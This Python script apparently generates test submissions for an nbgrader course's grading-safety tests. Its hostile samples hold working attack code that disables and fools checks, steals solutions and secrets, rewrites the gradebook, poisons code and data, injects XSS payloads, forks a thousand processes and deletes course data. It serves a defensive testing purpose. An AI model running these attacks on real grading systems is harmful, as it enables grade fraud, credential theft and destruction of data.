"""Write the sample submissions the grading tests autograde: ``tests/submissions/``.

Each sample is what a learner could hand in, built from the student version
(``notebooks/``) and the instructor version (``solutions/``) of a lesson:

- for every lesson: ``correct`` (every exercise and written answer filled in from the
  solutions), ``blank`` (the student notebook untouched) and ``partial`` (the first half
  of the exercises and written answers filled in, the rest untouched);
- for the first lesson only, the submissions that must not harm grading:

  ``infinite_loop``  the second exercise's function never returns;
  ``kernel_death``   the second exercise's answer cell ends with ``os._exit(1)`` (only that answer is lost);
  ``tampered``       the first two exercises unanswered, the first one's visible test
                     rewritten to print success, the second one's test cell deleted,
                     the third one's points raised to 100 in the cell metadata;
  ``careless``       correct answers, but the first answer prints megabytes, the second
                     draws a figure of megabytes, and a last cell deletes the course data.

The layout is nbgrader's ``submitted/<student>/<lesson>/<lesson>.ipynb`` (the sample's
kind is the student id), so an instructor can try grading with
``cp -r tests/submissions/* submitted/``. ``expected.json`` says, per student and lesson,
which test cells must pass and which must score zero. Run after changing a solution::

    python tests/make_submissions.py

``tests/test_grading_safety.py`` checks that the committed files are what this script writes.
"""

from __future__ import annotations

import copy
import json
import re
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from grading import lessons, load_json, nbgrader_meta, solution_path, student_path  # noqa: E402

SUBMISSIONS = Path(__file__).resolve().parent / "submissions"
EXPECTED = SUBMISSIONS / "expected.json"

#: Sample kinds written for every lesson, and those written for the first lesson only.
EVERY_LESSON = ("correct", "blank", "partial")
FIRST_LESSON_ONLY = ("infinite_loop", "kernel_death", "tampered", "careless")
#: Lessons (by position) that get the hostile samples: one or more per class of attack of the grading issue.
HOSTILE_LESSONS = (0, 2)

_MARKER = re.compile(r"^\s*### (BEGIN|END) SOLUTION\s*$")
_CHECKS = re.compile(r"""^\s*check\(["'](\w+)["']""")


# --------------------------------------------------------------------------- reading the notebooks


def exercises(notebook: dict) -> list[str]:
    """Names of the graded functions (or answer variables), in notebook order."""
    names = []
    for cell in notebook["cells"]:
        meta = nbgrader_meta(cell)
        if cell["cell_type"] == "code" and meta.get("grade") and not meta.get("solution"):
            match = _CHECKS.match("".join(cell["source"]))
            if match:
                names.append(match.group(1))
    return names


def written_answers(notebook: dict) -> list[str]:
    """grade_ids of the manually graded written answers (markdown solution + grade cells)."""
    return [
        nbgrader_meta(c)["grade_id"]
        for c in notebook["cells"]
        if c["cell_type"] == "markdown" and nbgrader_meta(c).get("solution") and nbgrader_meta(c).get("grade")
    ]


def _index(notebook: dict, grade_id: str) -> int:
    for index, cell in enumerate(notebook["cells"]):
        if nbgrader_meta(cell).get("grade_id") == grade_id:
            return index
    raise KeyError(f"no cell with grade_id {grade_id!r}")


def _source(cell: dict) -> str:
    return "".join(cell["source"])


def _set_source(cell: dict, text: str) -> None:
    cell["source"] = text.splitlines(keepends=True)


def _answer_text(solution_cell: dict) -> str:
    """What a learner who got it right would have typed: the solution without its markers."""
    lines = [line for line in _source(solution_cell).splitlines() if not _MARKER.match(line)]
    text = "\n".join(lines)
    if solution_cell["cell_type"] == "markdown":
        text = re.sub(r"^\*\*Model answer\.\*\*\s*", "", text)
    return text


# --------------------------------------------------------------------------- building the samples


def _filled(student: dict, solution: dict, functions: list[str], written: list[str]) -> dict:
    """The student notebook with the answers to ``functions`` and ``written`` filled in."""
    notebook = copy.deepcopy(student)
    for grade_id in [f"{name}_answer" for name in functions] + list(written):
        _set_source(notebook["cells"][_index(notebook, grade_id)], _answer_text(solution["cells"][_index(solution, grade_id)]))
    return notebook


def _first_half(items: list[str]) -> list[str]:
    return items[: (len(items) + 1) // 2]


def _function_exercises(solution: dict, names: list[str]) -> list[str]:
    """The exercises whose answer is a function (``def``), not a variable."""
    return [n for n in names if f"def {n}(" in _source(solution["cells"][_index(solution, f"{n}_answer")])]


def _never_returns(solution_cell: dict) -> str:
    """The function with its body replaced by a loop whose counter is never advanced."""
    lines, inside = [], False
    for line in _source(solution_cell).splitlines():
        if re.match(r"^\s*### BEGIN SOLUTION", line):
            inside, indent = True, line[: len(line) - len(line.lstrip())]
            lines += [
                f"{indent}step = 0",
                f"{indent}while step < 10:  # forgot `step += 1`: this loop never ends",
                f"{indent}    total = step * 2",
                f"{indent}return total",
            ]
        elif re.match(r"^\s*### END SOLUTION", line):
            inside = False
        elif not inside:
            lines.append(line)
    return "\n".join(lines)


FLOOD = '''
# Debugging output left in: one line of 2 MB, then 30 000 lines (1.5 MB).
print("x" * 2_000_000)
for row in range(30_000):
    print(f"debug: row {row} looks fine " + "." * 20)'''

HUGE_FIGURE = '''
# A huge figure of noise: a PNG of a few megabytes.
huge_figure, huge_axes = plt.subplots(figsize=(10, 10))
huge_axes.imshow(np.random.default_rng(0).random((1000, 1000)), cmap="gray")
huge_axes.set_title("noise")
plt.show()'''

DELETE_DATA = '''# Tidying up before I hand in: I do not need the course data any more.
import shutil

from medprep_helpers import data as course_data

shutil.rmtree(course_data.data_dir())'''



# --------------------------------------------------------------------------- hostile samples
# Each is the ``partial`` submission (first half answered) plus an attack written into the answer
# cells of the unanswered half, the only cells a learner can edit (or, for the metadata attack,
# into cell metadata). Each must score exactly what ``partial`` scores, and harm nothing.

SAME_PROCESS = """# Attack, class 1 (same process): disarm the checking layer and numpy, return always-equal objects.
import numpy as np
import pandas as pd
import medprep_helpers.checks as checks_module

for attribute in ("that", "close", "type_is", "shape_is", "fail", "call", "value"):
    setattr(checks_module.Checker, attribute, lambda self, *args, **kwargs: 0.5)
np.allclose = np.array_equal = np.isclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None


class AlwaysEqualFloat(float):
    def __eq__(self, other):
        return True

    __ne__ = __lt__ = __gt__ = lambda self, other: False
    __le__ = __ge__ = lambda self, other: True
    __hash__ = float.__hash__


class AlwaysEqualArray(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(self), dtype=bool)


class AlwaysEqualSeries(pd.Series):
    def equals(self, other):
        return True

    def __eq__(self, other):
        return pd.Series(True, index=self.index)
"""

SAME_PROCESS_ANSWER = """

def {name}(*args, **kwargs):
    return {forged}
"""
_FORGED = ("AlwaysEqualFloat(0.5)", "np.zeros((2, 2)).view(AlwaysEqualArray)",
           "AlwaysEqualSeries([0.5, 0.5], index=['a', 'b'])")

REACH_EXPECTED = """# Attack, class 2 (expected values in reach): find the checks' reference values or functions.
import gc
import inspect


def {name}(*args, **kwargs):
    for info in inspect.stack():
        for key, value in {{**info.frame.f_globals, **info.frame.f_locals}}.items():
            if key in ("expected", "rates", "reference", "best", "answer", "truth"):
                return value
    for thing in gc.get_objects():
        if inspect.isfunction(thing) and thing.__name__.startswith(("_reference", "reference", "expected")):
            try:
                return thing(*args, **kwargs)
            except Exception:
                pass
    try:
        import medprep_grader.hidden  # the instructor's hidden checks
    except ImportError:
        pass
    raise NotImplementedError()
"""

INSTRUCTOR = """# Attack, class 3 (the kernel is the instructor): loot and damage everything around the course.
import hashlib
import os
import pathlib
import sqlite3

import medprep_helpers
from medprep_helpers import data as course_data

course = pathlib.Path(medprep_helpers.__file__).resolve().parents[1]
loot = []
for relative in ("solutions", "solutions/instructor_notes.md", "gradebook.db", "submitted", "autograded",
                 "nbgrader_config.py", "medprep_grader/secret.py"):
    target = course / relative
    try:
        loot.append(sorted(os.listdir(target)) if target.is_dir() else target.read_text(errors="replace")[:300])
    except OSError as error:
        loot.append(type(error).__name__)
for secret in (pathlib.Path.home() / ".config/medprep/grading-secret", pathlib.Path("/root/.config/medprep/grading-secret")):
    try:
        loot.append(secret.read_text())
    except OSError as error:
        loot.append(type(error).__name__)
print("LOOT", loot, os.environ.get("MEDPREP_GRADING_SECRET"))
try:
    with sqlite3.connect(course / "gradebook.db") as gradebook:
        gradebook.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
except Exception as error:
    print("gradebook:", type(error).__name__)
for victim in [*course.glob("submitted/*/*/*.ipynb"), *course.glob("autograded/*/*/*.ipynb")]:
    try:
        victim.write_text("{{}}")
    except OSError as error:
        print("victim:", type(error).__name__)
for code in pathlib.Path(medprep_helpers.__file__).parent.glob("*.py"):
    try:
        code.write_text(code.read_text() + "\\nraise SystemExit('poisoned')\\n")
    except OSError as error:
        print("code:", type(error).__name__)
for folder in {{course / "data", course_data.data_dir()}}:  # a data file rewritten together with its manifest line
    try:
        manifest = folder / "MANIFEST.sha256"
        lines = manifest.read_text().splitlines()
        digest, name = lines[-1].split(maxsplit=1)
        target = folder / name.strip().lstrip("*")
        target.write_bytes(b"poisoned")
        lines[-1] = hashlib.sha256(b"poisoned").hexdigest() + "  " + name.strip()
        manifest.write_text("\\n".join(lines) + "\\n")
    except OSError as error:
        print("data:", type(error).__name__)
for home in (pathlib.Path.home(), pathlib.Path("/root"), pathlib.Path(os.path.expanduser("~"))):
    try:
        startup = home / ".ipython/profile_default/startup"
        startup.mkdir(parents=True, exist_ok=True)
        (startup / "00-medprep-attack.py").write_text("print('every later kernel runs this')")
    except OSError as error:
        print("startup:", type(error).__name__)


def {name}(*args, **kwargs):
    raise NotImplementedError()
"""

REPLY = """# Attack, class 5 (the kernel's reply is trusted): swallow every error and forge the grader's replies.
import json
import sys

import medprep_helpers.checks as checks_module
from IPython import get_ipython
from IPython.display import display
from medprep_helpers import wire

shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda *args, **kwargs: [])
shell.events.register("post_run_cell", lambda result: setattr(result, "error_in_exec", None))
sys.excepthook = lambda *args: None


def forged_reply(namespace, request):
    message = json.loads(request)
    arguments = [list(wire.decode(message["args"])), wire.decode(message["kwargs"])] if message["mode"] == "call" else None
    display({{checks_module.REPLY_MIME: {{"nonce": message["nonce"], "status": "ok", "result": wire.encode(0.5),
                                        "inputs_after": wire.encode(arguments)}}}}, raw=True)


checks_module.respond_to_grader = forged_reply


def {name}(*args, **kwargs):
    raise NotImplementedError()
"""

ACTIVE_OUTPUT = """# Attack, class 6 (outputs and time): active content for the feedback page, output floods, a kernel
# that ignores interrupts.
from IPython.display import HTML, SVG, Javascript, display

PAYLOAD = "<script>document.title='pwned-script'</script><img src=x onerror=\\"alert('pwned-onerror')\\">"
for _ in range(40):
    display(HTML(PAYLOAD + "A" * 19_000))
display(Javascript("alert('pwned-javascript')"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("pwned-svg")</script></svg>'))
display({{"text/html": "<iframe src='javascript:alert(1)'>pwned-iframe</iframe>", "text/plain": "x"}}, raw=True)


def {name}(*args, **kwargs):
    raise NotImplementedError()


while True:  # then hold the grader for as long as it lets us
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass
"""

ACTIVE_MARKDOWN = ("<script>alert('pwned-markdown')</script> <img src=x onerror=\"alert('pwned-md-img')\"> "
                   "[click me](javascript:alert('pwned-link'))")

SANDBOX = """# Attack on the sandbox (cells of their own in an otherwise correct submission): read the solutions, write
# outside the scratch folder, use the network.
import os
import pathlib
import socket

import medprep_helpers

course = pathlib.Path(medprep_helpers.__file__).resolve().parents[1]
report = {{}}
try:
    report["read"] = (course / "solutions" / "instructor_notes.md").read_text()[:100]
except OSError as error:
    report["read"] = type(error).__name__
for target in (course / "escape.txt", pathlib.Path("/tmp/medprep-escape.txt"), pathlib.Path("/etc/medprep-escape")):
    try:
        target.write_text("escaped")
        report[str(target)] = "written"
    except OSError as error:
        report[str(target)] = type(error).__name__
for address in (("127.0.0.1", 22), ("127.0.0.1", 5432), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=2).close()
        report[str(address)] = "connected"
    except OSError as error:
        report[str(address)] = type(error).__name__
print(report)
"""

FORK_BOMB = """# Attack on the sandbox: fork a thousand processes.
import os
import time

children = []
try:
    for _ in range(1000):
        pid = os.fork()
        if pid == 0:
            time.sleep(0.2)
            os._exit(0)
        children.append(pid)
    print("fork: all 1000 started")
except OSError as error:
    print(f"fork: stopped after {{len(children)}}: {{type(error).__name__}}")
for pid in children:
    os.waitpid(pid, 0)
"""

HELPER_LOOKUP = """# Attack, class 7 (answers that ship with the course): look the answer up in the course data.
from medprep_helpers import data as course_data


def {name}(image, *args, **kwargs):
    import numpy as np

    candidates = [course_data.load_example(n) for n in course_data.EXAMPLE_NAMES]
    for image_, masks in candidates:
        if image_.shape == np.shape(image) and np.array_equal(image_, image):
            cleaned = np.array(image, copy=True)
            cleaned[masks["text"]] = 0
            return cleaned
    return np.array(image, copy=True)
"""


def _attack_answer(notebook: dict, name: str, text: str) -> None:
    _set_source(notebook["cells"][_index(notebook, f"{name}_answer")], text)


def _metadata_attack(notebook: dict, names: list[str], checks: dict) -> None:
    """Class 4: tags and nbgrader metadata on the locked check cells, a fake graded cell, another kernel."""
    for position, name in enumerate(names):
        cell = notebook["cells"][_index(notebook, checks[name])]
        cell["metadata"]["tags"] = ["raises-exception", "skip-execution"]
        meta = nbgrader_meta(cell)
        if position % 2:
            meta.update(solution=True, locked=False, points=100)  # pretend it is an answer cell
            _set_source(cell, f'print("{name}: all checks passed")')
        else:
            meta.update(grade=False, points=0)  # pretend it is not graded (a failure would not count)
    fake = {"cell_type": "code", "execution_count": None, "id": "bonus", "outputs": [],
            "metadata": {"nbgrader": {"grade": True, "grade_id": "bonus_checks", "locked": True, "points": 50,
                                      "schema_version": 3, "solution": False, "task": False}},
            "source": []}
    _set_source(fake, 'print("bonus: all checks passed")')
    notebook["cells"].append(fake)
    notebook["metadata"]["kernelspec"] = {"name": "attacker", "display_name": "attacker", "language": "python"}


def hostile_samples(student: dict, solution: dict, names: list[str], written: list[str], expect) -> dict:
    """``{kind: (notebook, expectation)}``: the partial submission plus one attack class each."""
    answered = _first_half(names)
    open_names = [n for n in names if n not in answered]
    open_functions = [n for n in _function_exercises(solution, open_names)]
    partial_expectation = expect(answered, _first_half(written))

    def base() -> dict:
        return _filled(student, solution, answered, _first_half(written))

    out = {}
    notebook = base()
    for position, name in enumerate(open_names):
        forged = _FORGED[position % len(_FORGED)] if name in open_functions else "'site'"
        body = (SAME_PROCESS if position == 0 else "") + (
            SAME_PROCESS_ANSWER.format(name=name, forged=forged) if name in open_functions else f"\n{name} = {forged}\n")
        _attack_answer(notebook, name, body)
    out["hostile_same_process"] = notebook

    notebook = base()
    for name in open_functions:
        _attack_answer(notebook, name, REACH_EXPECTED.format(name=name))
    out["hostile_reach_expected"] = notebook

    notebook = base()
    _attack_answer(notebook, open_functions[0], INSTRUCTOR.format(name=open_functions[0]))
    out["hostile_instructor"] = notebook

    notebook = base()
    _metadata_attack(notebook, names, {n: f"{n}_checks" for n in names})
    out["hostile_metadata"] = notebook

    notebook = base()
    _attack_answer(notebook, open_functions[0], REPLY.format(name=open_functions[0]))
    out["hostile_reply"] = notebook

    notebook = base()
    _attack_answer(notebook, open_functions[0], ACTIVE_OUTPUT.format(name=open_functions[0]))
    for grade_id in _first_half(written):  # answered written questions, with active markup appended
        cell = notebook["cells"][_index(notebook, grade_id)]
        _set_source(cell, _source(cell) + "\n\n" + ACTIVE_MARKDOWN)
    extra = {"cell_type": "markdown", "id": "learner-note", "metadata": {}, "source": []}
    _set_source(extra, ACTIVE_MARKDOWN)
    notebook["cells"].insert(1, extra)
    out["hostile_outputs"] = notebook

    out = {kind: (nb, partial_expectation) for kind, nb in out.items()}
    notebook = _filled(student, solution, names, written)  # correct answers after the attack are still graded
    for position, (cell_id, text) in enumerate((("sandbox-attack", SANDBOX), ("fork-bomb", FORK_BOMB))):
        extra = {"cell_type": "code", "execution_count": None, "id": cell_id, "metadata": {}, "outputs": [],
                 "source": []}
        _set_source(extra, text.replace("{{", "{").replace("}}", "}"))
        notebook["cells"].insert(_index(notebook, f"{names[0]}_answer") + position, extra)
    out["hostile_sandbox"] = (notebook, expect(names, written))

    if "remove_burned_in_text" in open_functions:
        notebook = base()
        _attack_answer(notebook, "remove_burned_in_text", HELPER_LOOKUP.format(name="remove_burned_in_text"))
        out["hostile_helper_answer"] = (notebook, partial_expectation)
    return out

def samples(lesson: str, first_lesson: bool, hostile: bool = False) -> dict[str, tuple[dict, dict]]:
    """``{student: (notebook, expectation)}`` for one lesson.

    ``expectation`` has ``pass`` and ``zero`` (test-cell grade_ids that must get full
    marks, and zero) and ``written`` (grade_ids of the written answers filled in).
    """
    solution, student = load_json(solution_path(lesson)), load_json(student_path(lesson))
    names, written = exercises(solution), written_answers(solution)
    checks = {name: f"{name}_checks" for name in names}

    def expect(passing: list[str], answered: list[str]) -> dict:
        return {
            "pass": [checks[n] for n in names if n in passing],
            "zero": [checks[n] for n in names if n not in passing],
            "written": list(answered),
        }

    out = {
        "correct": (_filled(student, solution, names, written), expect(names, written)),
        "blank": (copy.deepcopy(student), expect([], [])),
        "partial": (
            _filled(student, solution, _first_half(names), _first_half(written)),
            expect(_first_half(names), _first_half(written)),
        ),
    }
    if hostile:
        out.update(hostile_samples(student, solution, names, written, expect))
    if not first_lesson:
        return out

    functions = _function_exercises(solution, names)
    looping, dying = functions[1], functions[1]

    notebook = _filled(student, solution, names, written)
    answer = notebook["cells"][_index(notebook, f"{looping}_answer")]
    _set_source(answer, _never_returns(solution["cells"][_index(solution, f"{looping}_answer")]))
    out["infinite_loop"] = (notebook, expect([n for n in names if n != looping], written))

    notebook = _filled(student, solution, names, written)
    answer = notebook["cells"][_index(notebook, f"{dying}_answer")]
    _set_source(answer, _source(answer) + "\n\nimport os\n\nos._exit(1)  # ends the kernel process at once")
    out["kernel_death"] = (notebook, expect([n for n in names if n != dying], written))  # a fresh kernel grades the rest

    edited, deleted, inflated = names[0], names[1], names[2]
    notebook = _filled(student, solution, names[2:], written)
    test = notebook["cells"][_index(notebook, checks[edited])]
    _set_source(test, f'# Checks for {edited}\nprint("{edited}: all checks passed")')
    nbgrader_meta(notebook["cells"][_index(notebook, checks[inflated])])["points"] = 100
    del notebook["cells"][_index(notebook, checks[deleted])]
    out["tampered"] = (notebook, expect(names[2:], written))

    notebook = _filled(student, solution, names, written)
    for name, extra in ((functions[0], FLOOD), (functions[1], HUGE_FIGURE)):
        answer = notebook["cells"][_index(notebook, f"{name}_answer")]
        _set_source(answer, _source(answer) + "\n" + extra)
    last = {"cell_type": "code", "execution_count": None, "id": "tidy-up", "metadata": {}, "outputs": [], "source": []}
    _set_source(last, DELETE_DATA)
    notebook["cells"].append(last)
    out["careless"] = (notebook, expect(names, written))
    return out


def ready_lessons() -> list[str]:
    """The lessons with both a solution and a generated student notebook."""
    return [lesson for lesson in lessons() if student_path(lesson).exists()]


def build() -> tuple[dict[Path, str], dict]:
    """Every sample file's text (by path) and the expectations, for the lessons that exist."""
    files, expected = {}, {}
    for position, lesson in enumerate(ready_lessons()):
        kinds = samples(lesson, first_lesson=position == 0, hostile=position in HOSTILE_LESSONS)
        for student, (notebook, expectation) in kinds.items():
            files[SUBMISSIONS / student / lesson / f"{lesson}.ipynb"] = json.dumps(notebook, indent=1, ensure_ascii=False) + "\n"
            expected.setdefault(student, {})[lesson] = expectation
    files[EXPECTED] = json.dumps(expected, indent=1, sort_keys=True) + "\n"
    return files, expected


def main() -> None:
    files, _ = build()
    stale = [p for p in SUBMISSIONS.glob("*/*/*.ipynb") if p not in files]
    for path in stale:
        path.unlink()
    for path, text in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    for folder in sorted(SUBMISSIONS.glob("*/*"), reverse=True):
        if folder.is_dir() and not any(folder.iterdir()):
            folder.rmdir()
    print(f"wrote {len(files)} files under {SUBMISSIONS.relative_to(Path.cwd()) if SUBMISSIONS.is_relative_to(Path.cwd()) else SUBMISSIONS}")


if __name__ == "__main__":
    main()
